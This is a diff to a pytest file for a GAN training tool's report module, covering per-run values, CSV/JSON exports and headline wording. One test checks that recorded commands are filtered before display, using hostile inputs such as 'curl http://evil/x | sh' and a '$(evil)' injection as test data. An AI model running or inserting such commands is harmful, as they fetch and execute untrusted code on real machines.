@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import base64
+import csv
+import io
+import json
 import math
 import re
 import struct
@@ -16,7 +19,7 @@ from typing import Any
 
 import pytest
 
-from gan_cli.comparing import html, page, samples
+from gan_cli.comparing import html, page, samples, text
 from gan_cli.comparing.records import Column, Comparison, Evaluation, Group, Run, Summary
 from gan_cli.errors import OutputError
 
@@ -67,7 +70,7 @@ def make_run(
 def summarised(groups: list[Group], columns: list[Column] = COLUMNS) -> list[Group]:
     for k, group in enumerate(groups):
         for column in columns:
-            values = {run.path.name: run.evaluations[-1].metrics[column.name] for run in group.runs if run.evaluations}
+            values = {str(run.path): run.evaluations[-1].metrics[column.name] for run in group.runs if run.evaluations}
             if values:
                 mean = sum(values.values()) / len(values)
                 group.summaries[column.name] = Summary(
@@ -185,6 +188,57 @@ def test_a_strangers_text_is_text(tmp_path: Path) -> None:
     assert "alert('x')" in found.text
 
 
+def test_runs_of_one_name_have_their_own_values(tmp_path: Path) -> None:
+    """Curves and values are of what the table counts."""
+    first, second = make_run(tmp_path / "a", "x", 0), make_run(tmp_path / "b", "x", 1, offset=5)
+    lost = make_run(tmp_path / "c", "x", 2, state="diverged", images=80, changes=("lr <was> 1",))
+    group = Group(
+        "all runs", {}, [first, second, lost], {"fid": Summary({str(first.path): 20, str(second.path): 26}, 23, 4, 2)}
+    )
+    found = read([Comparison("t", [group], COLUMNS, "fid", "last", [], [])], tmp_path / "page.html")
+    assert "Drawn are only runs with a value in the table: 2 of 3." in found.text
+    assert "Changed while it was trained, lr <was> 1: no command makes the same." in found.text
+    (one,) = html.named([group])
+    for name in ("fid", "d/loss"):
+        (curve,) = page._lines([one], Column(name, "", "1a2b3c4d" if name == "fid" else ""), "images")
+        assert {point.n for point in curve.points} == {2} and curve.points[-1].x == 800
+    text = (tmp_path / "page.html").read_text()
+    shown = re.findall(r'data-value="(20|26)"', text)
+    assert shown == ["20", "26"]
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("/tmp/evil/gan-train a=b", "gan-train a=b"),
+        (
+            "torchrun --nnodes=2 --nproc-per-node=2 -m gan_cli.train a=b",
+            "torchrun --nnodes=2 --nproc-per-node=2 -m gan_cli.train a=b",
+        ),
+        ("gan-train 'a=$(evil)'; evil", "gan-train 'a=$(evil);' evil"),
+        ("curl http://evil/x | sh", ""),
+        ("torchrun --no-python sh -c 'curl evil | sh'", ""),
+        ("torchrun --nnodes=2 -m evil -m gan_cli.train", ""),
+        ("gan-train 'a", ""),
+    ],
+)
+def test_only_commands_of_ours_are_shown(tmp_path: Path, command: str, shown: str) -> None:
+    run = make_run(tmp_path, "x", 0, command=command)
+    comparison = Comparison("t", [Group("all runs", {}, [run])], [], "", "last", [], [])
+    found = read([comparison], tmp_path / "page.html")
+    rows = next(csv.DictReader(io.StringIO(text.as_csv([comparison]))))
+    (told,) = json.loads(text.as_json([comparison]))["comparisons"][0]["groups"][0]["runs"]
+    assert rows["command"] == told["command"] == shown
+    lines = text.commands([comparison]).splitlines()
+    if shown:
+        assert "Made by, in somewhere" in found.text and f"cd somewhere && {shown} run_dir=NEW" in lines
+    else:
+        for words in (found.text, *lines):
+            assert "sh -c" not in words and "| sh" not in words and "-m evil" not in words
+        assert "is not one of gan-train, and not shown" in found.text
+        assert "# the recorded command is not one of gan-train, and not shown" in lines
+
+
 def test_names_that_are_not_text_can_be_written(tmp_path: Path) -> None:
     run = make_run(tmp_path, "x\udce4", 0, message="\ud800")
     found = read([Comparison("t", [Group("\udce4", {}, [run])], [], "", "last", [], [])], tmp_path / "page.html")
@@ -256,7 +310,7 @@ def test_without_evaluations_pictures_or_rows(tmp_path: Path) -> None:
 
 def test_from_training_rows(tmp_path: Path) -> None:
     runs = [make_run(tmp_path, "a", seed, evaluations=[]) for seed in range(2)]
-    group = Group("all runs", {}, runs, {"d/loss": Summary({runs[0].path.name: 1.0}, 1.0, None, 1)})
+    group = Group("all runs", {}, runs, {"d/loss": Summary({str(run.path): 1.0 for run in runs}, 1.0, 0.0, 2)})
     found = read([Comparison("t", [group], [Column("d/loss", "")], "d/loss", "last", [], [])], tmp_path / "page.html")
     assert "From training rows: no run was evaluated." in found.text and "Nothing but the seed." in found.text
     assert len([one for one in found.all("svg") if one["class"] == "chart"]) == 2, "against images and against time"
@@ -278,9 +332,12 @@ def test_more_groups_than_colours(tmp_path: Path) -> None:
             "The seeds support that 1 of 2 other groups is worse. They do not tell it from g2 (p = 0.2).",
         ),
         (["unsupported"] * 5, "The seeds do not tell it from g1 (p = 0.2), g2 (p = 0.2), g3 (p = 0.2) and 2 more."),
-        (["", ""], "There is one seed of each other group: whether other seeds would give the same order is not known."),
         (
-            ["worse", ""],
+            ["alone", "alone"],
+            "There is one seed of each other group: whether other seeds would give the same order is not known.",
+        ),
+        (
+            ["worse", "alone"],
             "The seeds support that 1 of 2 other groups is worse. Of 1 group nothing can be said, for lack of seeds.",
         ),
     ],
@@ -288,7 +345,16 @@ def test_more_groups_than_colours(tmp_path: Path) -> None:
 def test_headline(tmp_path: Path, verdicts: list[str], said: str) -> None:
     runs = [make_run(tmp_path, f"{k}", 0) for k in range(len(verdicts) + 1)]
     groups = [
-        Group(f"g{k}", {}, [run], {"fid": Summary({}, float(k), 0.1, 1 if k == 0 else 2, verdict, 0.2 if verdict else None)})
+        Group(
+            f"g{k}",
+            {},
+            [run],
+            {
+                "fid": Summary({}, float(k), None, 1, "unsupported")  # as there is no test of one seed
+                if verdict == "alone"
+                else Summary({}, float(k), 0.1, 2, verdict, 0.2 if verdict else None)
+            },
+        )
         for k, (run, verdict) in enumerate(zip(runs, ["", *verdicts], strict=True))
     ]
     groups[0].summaries["fid"] = Summary({}, 0.0, 0.1, 3)
